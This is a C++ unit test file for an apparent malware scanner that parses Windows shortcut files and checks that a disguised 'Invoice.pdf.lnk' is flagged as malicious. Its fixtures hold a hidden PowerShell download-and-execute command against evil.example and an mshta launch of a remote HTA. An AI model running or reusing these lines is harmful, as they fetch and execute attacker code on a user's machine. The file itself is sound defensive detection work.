// Windows shortcuts built in code ([MS-SHLLINK]): target from LinkInfo, the
// ID list or the environment block; arguments; verdicts.
#include <gtest/gtest.h>

#include "formats/lnk/parse.h"
#include "emogate/scanner.h"
#include "office_fixtures.h"

using namespace emogate;
using namespace emogate::test;

namespace {

const std::string kClsid("\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 16);

std::string header(std::uint32_t flags, std::uint32_t show = 7) {
  return u32(0x4C) + kClsid + u32(flags) + u32(0x20) + std::string(24, '\0') + u32(0) + u32(0) +
         u32(show) + u16(0) + std::string(10, '\0');
}

std::string link_info(std::string_view path) {
  // Header of 0x1C bytes, a minimal VolumeID, the local base path, an empty suffix.
  std::string volume = u32(0x10) + u32(3) + u32(0) + u32(0x10);
  std::uint32_t vol_at = 0x1C, path_at = vol_at + std::uint32_t(volume.size());
  std::uint32_t suffix_at = path_at + std::uint32_t(path.size() + 1);
  std::string body = volume + std::string(path) + '\0' + '\0';
  std::uint32_t size = 0x1C + std::uint32_t(body.size());
  return u32(size) + u32(0x1C) + u32(1) + u32(vol_at) + u32(path_at) + u32(0) + u32(suffix_at) + body;
}

std::string sd(std::string_view s) { return u16(std::uint16_t(s.size())) + utf16(s); }

const std::string kPs = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

std::string powershell_lnk() {
  // HasLinkInfo | HasArguments | HasIconLocation | IsUnicode
  return header(0x2 | 0x20 | 0x40 | 0x80) + link_info(kPs) +
         sd("-w hidden -nop -c iwr http://evil.example/a.ps1|iex") + sd("C:\\Windows\\notepad.exe") +
         u32(0);
}

}  // namespace

TEST(Lnk, ParsesLinkInfoArgumentsAndIcon) {
  auto s = lnk::parse(powershell_lnk());
  ASSERT_TRUE(s.ok);
  EXPECT_EQ(s.local_path, kPs);
  EXPECT_EQ(s.target(), kPs);
  EXPECT_EQ(s.arguments, "-w hidden -nop -c iwr http://evil.example/a.ps1|iex");
  EXPECT_EQ(s.icon_location, "C:\\Windows\\notepad.exe");
  EXPECT_EQ(s.show_command, 7u);
  EXPECT_TRUE(lnk::runs_interpreter(s));
}

TEST(Lnk, IdListAndEnvironmentTargets) {
  // ID list: root item (ignored), drive "C:\", file entry "cmd.exe"; no arguments.
  std::string drive = u16(2 + 1 + 4) + u8(0x2F) + "C:\\" + '\0';
  std::string file = u16(2 + 12 + 8) + u8(0x32) + std::string(11, '\0') + "cmd.exe" + '\0';
  std::string list = u16(2 + 18) + u8(0x1F) + std::string(17, '\0') + drive + file + u16(0);
  auto s = lnk::parse(header(0x1) + u16(std::uint16_t(list.size())) + list);
  ASSERT_TRUE(s.ok);
  EXPECT_EQ(s.id_list_path, "C:\\cmd.exe");
  EXPECT_FALSE(lnk::runs_interpreter(s));
  std::string env = u32(0x314) + u32(0xA0000001) + std::string(260, '\0') + utf16("%windir%\\system32\\mshta.exe") +
                    std::string(520 - 56, '\0');
  auto e = lnk::parse(header(0x20 | 0x80) + sd("http://x.example/a.hta") + env + u32(0));
  EXPECT_EQ(e.env_target, "%windir%\\system32\\mshta.exe");
  EXPECT_TRUE(lnk::runs_interpreter(e));
}

TEST(Lnk, HostileLengthsDoNotCrash) {
  std::string good = powershell_lnk();
  for (std::size_t cut = 0; cut < good.size(); cut += 7) lnk::parse(std::string_view(good).substr(0, cut));
  std::string bad = header(0xFF) + u16(0xFFFF) + std::string(10, '\xFF');
  EXPECT_TRUE(lnk::parse(bad).ok);
}

TEST(LnkDetector, PowershellShortcutIsMaliciousWithCommandLine) {
  auto rep = Scanner(Config{}).scan_file(powershell_lnk(), "Invoice.pdf.lnk");
  const Finding* f = find_finding(rep, FindingType::dangerous_type, {.detail = "shortcut: "});
  ASSERT_TRUE(f) << to_json(rep);
  EXPECT_EQ(f->verdict, Verdict::malicious);
  EXPECT_NE(f->detail.find("powershell.exe -w hidden"), std::string::npos) << f->detail;
  int shortcut_findings = 0;
  for (auto& x : rep.findings) shortcut_findings += x.type == FindingType::dangerous_type;
  EXPECT_EQ(shortcut_findings, 1) << "only the LNK detector handles shortcuts";
  const ObjectSummary* text = find_object(rep, "Invoice.pdf.lnk/shortcut.txt");
  ASSERT_NE(text, nullptr) << to_json(rep);
  EXPECT_TRUE(text->derived);
}
